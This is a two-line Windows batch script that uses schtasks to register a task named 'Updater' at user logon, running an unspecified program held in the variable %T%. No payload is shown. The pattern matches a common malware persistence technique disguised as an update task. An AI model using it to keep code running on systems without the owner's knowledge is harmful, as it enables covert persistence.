@echo off
schtasks /create /tn Updater /sc onlogon /tr "%T%"
